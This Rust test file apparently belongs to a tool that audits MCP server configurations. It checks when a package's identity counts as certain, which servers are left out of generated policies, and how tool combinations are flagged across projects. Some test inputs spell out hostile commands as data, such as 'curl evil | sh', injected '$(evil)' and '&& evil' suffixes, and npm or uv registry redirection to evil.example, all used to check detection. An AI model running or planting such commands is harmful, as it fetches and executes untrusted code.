//! What a report takes for certain, what it leaves out of a policy, and what it doesn't join.

use crate::stack::{TOOLS, form, ids, package, packaged, report};
use crate::world::World;
use axum::http::StatusCode;
use serde_json::{Value, json};

async fn sure(world: &World, entry: Value) -> Value {
    report(world, json!({ "notes": entry })).await["servers"][0]["sure"].clone()
}

#[tokio::test]
async fn a_package_that_is_fetched_from_elsewhere_is_only_perhaps_the_one_of_that_name() {
    let world = packaged().await;
    for command in [
        "npx -y notes-mcp@https://evil.example/x.tgz",
        "npx -y notes-mcp@npm:evil@1.0.0",
        "npx -y notes-mcp@file:../evil",
        "npx --registry https://evil.example -y notes-mcp",
        "npx --registry=https://evil.example -y notes-mcp",
        "npx --userconfig evil.npmrc -y notes-mcp",
        "npx -p notes-mcp -p evil notes-mcp",
        "npx -p notes-mcp bash -c evil",
        "env npm_config_registry=https://evil.example npx -y notes-mcp",
        "cmd /c npx -y notes-mcp & evil",
        "node ./node_modules/notes-mcp/index.js",
    ] {
        let words: Vec<&str> = command.split(' ').collect();
        assert_eq!(sure(&world, json!({"command": words[0], "args": words[1..]})).await, json!(false), "{command}");
    }
    for line in ["npx -y notes-mcp; curl evil | sh", "npx -y notes-mcp $(evil)", "npx -y notes-mcp && evil"] {
        assert_eq!(sure(&world, json!({"command": "bash", "args": ["-c", line]})).await, json!(false), "{line}");
    }
    let variables = json!({"command": "npx", "args": ["-y", "notes-mcp"], "env": {"NPM_CONFIG_REGISTRY": "https://evil.example"}});
    assert_eq!(sure(&world, variables).await, json!(false));
}

#[tokio::test]
async fn a_package_from_its_registry_is_certain_however_it_is_started() {
    let world = packaged().await;
    for command in
        ["npx -y notes-mcp@1.2.3 --root /a", "npx --cache /tmp/x -y notes-mcp", "npx -p notes-mcp notes", "cmd /c npx -y notes-mcp"]
    {
        let words: Vec<&str> = command.split(' ').collect();
        assert_eq!(sure(&world, json!({"command": words[0], "args": words[1..]})).await, json!(true), "{command}");
    }
    assert_eq!(sure(&world, json!({"command": "bash", "args": ["-lc", "KEY=x exec npx -y notes-mcp"]})).await, json!(true));
}

#[tokio::test]
async fn of_an_index_that_somebody_names_nothing_is_certain() {
    let world = World::empty().await;
    world.import("timed.json", br#"{"name": "timed", "package": "pypi:mcp-server-time", "tools": [{"name": "get_x"}]}"#, 1).await;
    for (flags, expected) in [
        ("", true),
        ("--python 3.12 ", true),
        ("--index-url https://evil.example ", false),
        ("--default-index=https://evil.example ", false),
        ("--find-links ./evil ", false),
        ("--with evil ", false),
        ("--python ./evil ", false),
    ] {
        let command = format!("uvx {flags}mcp-server-time");
        let words: Vec<&str> = command.split(' ').collect();
        assert_eq!(sure(&world, json!({"command": words[0], "args": words[1..]})).await, json!(expected), "{command}");
    }
}

#[tokio::test]
async fn servers_that_share_their_tools_count_them_each() {
    let world = World::empty().await;
    let tools: Vec<Value> = (0..60).map(|number| json!({"name": format!("t{number}"), "description": "Gets x."})).collect();
    world.import("big.json", json!({"server": "big", "tools": tools}).to_string().as_bytes(), 0).await;
    let entries: Vec<Value> = (0..1000).map(|number| json!({"name": "big", "command": format!("a{number}x")})).collect();
    let answer = world.post("/api/v1/stack", json!({"mcpServers": entries}).to_string()).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body.len());
    assert!(answer.body.contains("more than 50000 tools"), "{}", answer.body);
}

#[tokio::test]
async fn one_form_names_no_more_servers_than_one_configuration() {
    let world = World::empty().await;
    let file = |start: &str| {
        let servers: Vec<String> = (0..600).map(|number| format!(r#""{start}{number}": {{"command": "x"}}"#)).collect();
        format!(r#"{{"mcpServers": {{{}}}}}"#, servers.join(","))
    };
    let page = form(&world, &[("file", Some("a.json"), &file("a")), ("file", Some("b.json"), &file("b"))]).await;
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.body.contains("more than 1000 servers"), "{}", page.body);
}

#[tokio::test]
async fn a_guess_is_in_no_policy_and_that_is_told() {
    let world = World::with(TOOLS).await;
    let expected = json!([{"alias": "notes", "detail": "is only perhaps notes, so no rules are written for it"}]);
    let configuration = json!({"mcpServers": {"notes": {"command": "x"}}}).to_string();
    let answer = world.post("/api/v1/stack?format=toolgrade", configuration.clone()).await.json();
    assert_eq!((&answer["left_out"], &answer["policy"]), (&expected, &Value::Null));
    let page = form(&world, &[("config", None, &configuration)]).await;
    let told = page.text("section[aria-labelledby=policy-heading]");
    assert!(told.contains("notes is only perhaps notes, so no rules are written for it.") && !told.contains("read_file"), "{told}");
}

#[tokio::test]
async fn a_name_that_stands_for_two_servers_is_in_no_policy() {
    let world = packaged().await;
    let projects = json!({"projects": {
        "/a": {"mcpServers": {"db": package("notes"), "sums": package("sums")}},
        "/b": {"mcpServers": {"db": {"command": "./mine"}}}
    }});
    let answer = world.post("/api/v1/stack?format=toolgrade", projects.to_string()).await.json();
    let named: Vec<&Value> = answer["policy"]["tools"].as_array().expect("a list").iter().map(|tool| &tool["server"]).collect();
    let expected = json!([{"alias": "db", "detail": "stands for more than one server, so no rules are written for it"}]);
    assert_eq!((named, &answer["left_out"]), (vec![&json!("sums")], &expected));
}

#[tokio::test]
async fn two_projects_have_nothing_together_but_what_stands_for_all_is_in_each() {
    let world = packaged().await;
    let projects = |everywhere: Value, a: Value, b: Value| {
        json!({"mcpServers": everywhere, "projects": {"/a": {"mcpServers": a}, "/b": {"mcpServers": b}}}).to_string()
    };
    let (notes, web) = (json!({"notes": package("notes")}), json!({"web": package("web")}));
    let apart = world.post("/api/v1/stack", projects(json!({}), notes.clone(), web.clone())).await.json();
    assert_eq!(ids(&apart), Vec::<&str>::new());
    let together = world.post("/api/v1/stack", projects(web, notes, json!({}))).await.json();
    assert_eq!(ids(&together), ["private-data-leak", "files-leak"]);
}

#[tokio::test]
async fn files_of_clients_that_nobody_knows_have_nothing_together() {
    let world = packaged().await;
    let file = |server: &str| json!({"mcpServers": {server: package(server)}}).to_string();
    let page = form(&world, &[("config", None, &file("notes")), ("config", None, &file("web"))]).await;
    assert_eq!((page.status, page.texts("details.combination").len()), (StatusCode::OK, 0), "{}", page.body);
}
